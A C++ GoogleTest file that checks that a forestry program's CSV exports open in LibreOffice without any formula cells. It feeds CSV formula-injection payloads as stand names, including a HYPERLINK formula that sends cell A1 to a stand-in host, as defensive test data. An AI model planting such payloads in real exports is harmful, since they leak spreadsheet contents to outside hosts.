// Every table the program writes, opened as a spreadsheet opens it: LibreOffice, headless,
// under Swedish settings, finds no formula in any of them, however the stands are named,
// and a negative figure is still a number. Skipped where LibreOffice is not installed.
#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>

#include "batch/batchrun.h"
#include "calc/comparison.h"
#include "calc/cyclerecord.h"
#include "calc/spread.h"
#include "report/csv.h"
#include "report/cyclecsv.h"
#include "report/spreadcsv.h"
#include "tests/testfiles.h"

namespace lodra::batch {
namespace {

namespace fs = std::filesystem;
using testfiles::readFile;
using testfiles::writeFile;

// Names a spreadsheet would take for formulas, each a row of the register; the one with
// the unknown species is refused and still named in every table.
std::string hostileRegister() {
    const std::vector<std::string> names = {
        "=1+2",     "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")",
        "+1+2",     "-1+2",
        "-12,5",    "@SUMMA(A1)",
        "\t=1+2",   "\r=1+2",
        "\r\n=1+2", "Skifte 7"};
    std::string bytes = "totaltid;tradslag;bestand\r\n";
    for (const std::string& name : names) {
        bytes += "30;Gran;" + csvFieldAsTyped(name) + "\r\n";
    }
    return bytes + "30;Ek;" + csvFieldAsTyped("=SUMMA(1;2)") + "\r\n";
}

// The tables the windows save ("Spara tabell"): the cycles, a spread's runs and the
// comparison of both measures, with negative figures in each.
void writeWindowTables(const fs::path& dir) {
    const std::vector<CycleRow> cycles = {
        {0, 1.96, 189.2375, 209.15, 36.2612, false, 0, 0, 0, 0, 0, 0, 0},
        {5, 0.5, 12.5, 13, 21.25, true, 200, 41.5, 317.375, 96578.5, 562.5, -1234.5, -2.5e+20},
    };
    writeFile(dir / "fonster-cykler.csv", cycleCsv(cycles, ','));
    Spread spread;
    spread.runs = {{18446744073709551615u, true, true, -1234.5, 30, 250},
                   {2, false, false, 0, 0, 0}};
    summarize(spread);
    writeFile(dir / "fonster-spridning.csv", spreadRunsCsv(spread, ','));
    MeasureComparison both;
    both.grids[0].nuvarde[0][0] = -1234.5;
    both.grids[1].nuvarde[1][0] = 17.25;
    writeFile(dir / "fonster-atgarder.csv", measureComparisonCsv(both, ','));
}

// Converts every .csv of the folder to a flat spreadsheet in dir/out, as LibreOffice reads
// a ';'-separated UTF-8 file under Swedish settings, with a profile of its own.
int convert(const fs::path& dir) {
    const std::string command = "cd '" + dir.string() +
                                "' && soffice -env:UserInstallation=file://" +
                                (dir / "profil").string() +
                                " --headless --infilter=CSV:59,34,76,1,,1053 --convert-to fods"
                                " --outdir out *.csv >/dev/null 2>&1";
    return std::system(command.c_str());
}

int count(const std::string& text, const std::string& what) {
    int n = 0;
    for (std::size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) {
        ++n;
    }
    return n;
}

TEST(Spreadsheet, NoTableOpensWithAFormula) {
    if (std::system("command -v soffice >/dev/null 2>&1") != 0) {
        GTEST_SKIP() << "LibreOffice (soffice) is not installed";
    }
    const fs::path dir = testfiles::newFolder("spreadsheet");
    ASSERT_FALSE(dir.empty());
    writeFile(dir / "bestand.txt", hostileRegister());  // .txt: not converted
    Arguments arguments;
    arguments.stands = (dir / "bestand.txt").string();
    arguments.output = (dir / "resultat.txt").string();
    arguments.table = (dir / "tabell.csv").string();
    arguments.cycles = (dir / "cykler.csv").string();
    arguments.compare = (dir / "jamfor.csv").string();
    arguments.spread = (dir / "spridning.csv").string();
    arguments.measures = (dir / "atgarder.csv").string();
    arguments.runs = 3;
    arguments.seed = 1;
    RunStreams streams;
    streams.messages = std::tmpfile();
    streams.errors = std::tmpfile();
    EXPECT_EQ(runBatch(arguments, ',', streams), kRowsRefused)
        << testfiles::readStream(streams.errors);
    std::fclose(streams.messages);
    std::fclose(streams.errors);
    writeWindowTables(dir);
    // The same kind of file with a name left unguarded: it must open with a formula, or
    // the count below proves nothing.
    writeFile(dir / "kontroll.csv", std::string(kUtf8ByteOrderMark) + "Rad;Bestånd\r\n2;=1+2\r\n");
    ASSERT_EQ(convert(dir), 0);

    const struct {
        const char* table;
        int formulas;
        std::string holds;  // a cell of the converted file
    } tables[] = {
        {"kontroll", 1, "table:formula=\"of:=1+2\""},
        {"tabell", 0, "<text:p>&apos;=SUMMA(1;2)</text:p>"},
        {"cykler", 0, "<text:p>&apos;-12,5</text:p>"},
        {"jamfor", 0, "<text:p>&apos;+1+2</text:p>"},
        {"spridning", 0, "<text:p>&apos;@SUMMA(A1)</text:p>"},
        {"atgarder", 0, "<text:p>Skifte 7</text:p>"},
        {"fonster-cykler", 0, "office:value=\"-1234.5\""},
        {"fonster-spridning", 0, "office:value=\"-1234.5\""},
        // A 64-bit seed stays text, every digit kept.
        {"fonster-spridning", 0, "<text:p>#18446744073709551615</text:p>"},
        {"fonster-atgarder", 0, "office:value=\"-1234.5\""},
    };
    for (const auto& t : tables) {
        SCOPED_TRACE(t.table);
        const std::string sheet = readFile(dir / "out" / (std::string(t.table) + ".fods"));
        EXPECT_EQ(count(sheet, "table:formula="), t.formulas);
        EXPECT_NE(sheet.find(t.holds), std::string::npos);
    }
    fs::remove_all(dir);
}

}  // namespace
}  // namespace lodra::batch
